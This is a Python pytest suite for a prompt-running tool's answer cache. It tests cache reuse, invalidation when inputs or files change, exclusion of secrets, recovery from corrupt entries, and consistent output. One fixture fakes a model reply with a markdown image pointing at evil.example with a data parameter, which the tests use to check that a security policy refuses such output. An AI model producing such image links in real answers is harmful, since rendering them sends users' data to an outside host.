"""What was worked out once of the same inputs is not worked out again, and nothing else is ever given in its place."""

from __future__ import annotations

import json
import shutil
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from servers.openai import Reply, openai_server
from trainer.actions import memo
from trainer.actions.memo import remembered
from trainer.core.project import Project, open_project
from trainer.core.secrets import keep_secret


@dataclass(frozen=True, slots=True)
class Answer:
    text: str
    parts: tuple[str, ...] = ()
    plain: Any = None


@pytest.fixture
def project(blank: Path) -> Project:
    (blank / ".trainer").mkdir()
    return open_project(blank, environ={})


def asked(project: Project, rests_on: object, answer: Answer | None = None) -> tuple[Answer, bool]:
    """What is remembered, and whether it had to be worked out."""
    worked_out = []

    def work_out() -> Answer:
        worked_out.append(True)
        return answer or Answer("«ünïcode»", ("a", "b"))

    return remembered(project, Answer, rests_on, work_out), bool(worked_out)


def test_equal_inputs_are_worked_out_once(project: Project) -> None:
    first = asked(project, {"b": [1, 2], "a": "x"})

    assert first == (Answer("«ünïcode»", ("a", "b")), True)
    assert asked(project, {"a": "x", "b": [1, 2]}) == (first[0], False)


@pytest.mark.parametrize("other", [{"a": "y"}, {"a": "x", "b": None}, ["a", "x"]])
def test_another_input_is_worked_out_anew(project: Project, other: object) -> None:
    asked(project, {"a": "x"})

    assert asked(project, other)[1]


def test_another_program_works_it_out_anew(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    asked(project, "x")
    monkeypatch.setattr(memo, "program", lambda: "another")

    assert asked(project, "x")[1]


def test_a_program_is_another_one_with_each_of_its_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    package = tmp_path / "trainer"
    for name in ("actions/memo.py", "checks/words/languages.yaml"):
        (package / name).parent.mkdir(parents=True, exist_ok=True)
        (package / name).write_text("one")
    monkeypatch.setattr(memo, "__file__", str(package / "actions/memo.py"))
    program = memo.program.__wrapped__

    before = program()
    assert program() == before
    (package / "checks/words/languages.yaml").write_text("three")
    assert program() != before


def test_where_a_secret_is_among_the_inputs_nothing_is_kept(project: Project) -> None:
    keep_secret("hunter2-hunter2")

    assert asked(project, ["a hunter2-hunter2 b"])[1]
    assert asked(project, ["a hunter2-hunter2 b"])[1]
    assert not list(project.state.rglob("*.json"))


def test_an_answer_with_what_became_a_secret_since_is_worked_out_anew(project: Project) -> None:
    asked(project, ["a hunter2-hunter2 b"])
    keep_secret("hunter2-hunter2")

    assert asked(project, ["a hunter2-hunter2 b"])[1]


def test_a_project_without_state_gets_none(blank: Path) -> None:
    asked(open_project(blank, environ={}), "x")

    assert not (blank / ".trainer").exists()


@pytest.mark.parametrize("torn", [b"", b"{", b"[]", b'{"text": 1}', b"\xff\xfe"])
def test_what_is_torn_is_worked_out_anew(project: Project, torn: bytes) -> None:
    asked(project, "x")
    (path,) = project.cache.glob("memo/*/*.json")
    path.write_bytes(torn)

    assert asked(project, "x") == (Answer("«ünïcode»", ("a", "b")), True)
    assert not asked(project, "x")[1]


def test_what_would_read_back_as_another_value_is_never_kept(project: Project) -> None:
    answer = Answer("a", plain={"pair": (1, 2)})

    assert asked(project, "x", answer) == (answer, True)
    assert asked(project, "x", answer) == (answer, True)


def test_an_input_that_json_has_no_word_for_is_worked_out_each_time(project: Project) -> None:
    assert asked(project, [object()])[1]


CONFIG = """llm_provider: {{provider: openai_compatible, model: m, api_base: "{url}"}}
"""
WRONG = "# Summary\n\nRevenue was $99.9 billion, see ![it](https://evil.example/?d=1).\n"


def test_a_run_tells_the_same_whether_its_verdict_is_remembered_or_not(blank: Path, run) -> None:
    command = ("run", "overview", "-p", "NAME=Sample")
    with openai_server(lambda server, seen: Reply(content=WRONG)) as server:
        (blank / "config.yaml").write_text(CONFIG.format(url=server.url))
        run(blank, *command)
    remembered = run(blank, *command)
    shutil.rmtree(blank / ".trainer/cache/memo")
    anew = run(blank, *command)

    assert "Revenue" in remembered.stdout
    assert "error: " in remembered.stderr
    assert (remembered.returncode, remembered.stdout, remembered.stderr) == (anew.returncode, anew.stdout, anew.stderr)


def test_a_policy_that_changes_refuses_what_was_remembered_as_harmless(blank: Path, run) -> None:
    command = ("run", "overview", "-p", "NAME=Sample")
    with openai_server(lambda server, seen: Reply(content=WRONG)) as server:
        config = CONFIG.format(url=server.url)
        (blank / "config.yaml").write_text(config)
        run(blank, *command)
    rule = '{flags: ["output.*"], then: block, reason: "no pictures"}'
    (blank / "config.yaml").write_text(config + f"prompt_security: {{rules: [{rule}]}}\n")
    done = run(blank, *command)

    assert (done.returncode, done.stdout) == (4, "")
    assert "the answer was refused by the security policy" in done.stderr


def test_data_that_changes_behind_the_same_prompt_is_judged_anew(blank: Path, run) -> None:
    """The answer stays cached where the prompt does not show the datum; what it is held against is another one."""
    instruction = blank / "information/instructions/plain.md"
    instruction.write_text(
        "---\ndata: {d: {source: file, path: information/data/d.json}}\n---\n"
        "Write on {{ d.name }}.\n{{ '' if d else '' }}"
    )
    data = blank / "information/data/d.json"
    data.write_text(json.dumps({"name": "Sample", "revenue": 99_900_000_000}))
    with openai_server(lambda server, seen: Reply(content="Revenue was $99.9 billion.\n")) as server:
        (blank / "config.yaml").write_text(CONFIG.format(url=server.url))
        assert "warning: line 1" not in run(blank, "run", "plain").stderr
        data.write_text(json.dumps({"name": "Sample", "revenue": 12_300_000_000}))
        done = run(blank, "run", "plain")

    assert "line 1: " in done.stderr


def test_rendering_anew_and_remembering_give_the_same_bytes(blank: Path, run) -> None:
    command = ("render", "overview", "-p", "NAME=Sample", "--json")
    run(blank, *command)
    remembered = run(blank, *command)
    shutil.rmtree(blank / ".trainer/cache/memo")
    anew = run(blank, *command)

    assert remembered.stdout == anew.stdout != ""
    (blank / "information/context/topic/01-introduction.md").write_text("# Other\n\nWords.\n")
    assert "Words." in run(blank, *command).stdout
